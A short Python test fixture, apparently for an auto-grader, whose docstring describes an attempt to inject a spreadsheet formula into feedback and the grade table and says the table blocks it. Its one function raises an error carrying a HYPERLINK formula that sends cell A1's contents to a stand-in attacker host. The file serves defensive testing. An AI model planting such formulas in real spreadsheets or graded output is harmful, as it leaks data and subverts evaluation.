"""Tries to put a spreadsheet's formula into the feedback and the table of grades.

Stopped by: the table has points and names only, and no cell of it can start a formula.
"""


def mixture_log_prob(log_probs):
    raise ValueError('=HYPERLINK("http://evil.example/?x="&A1,"click")')
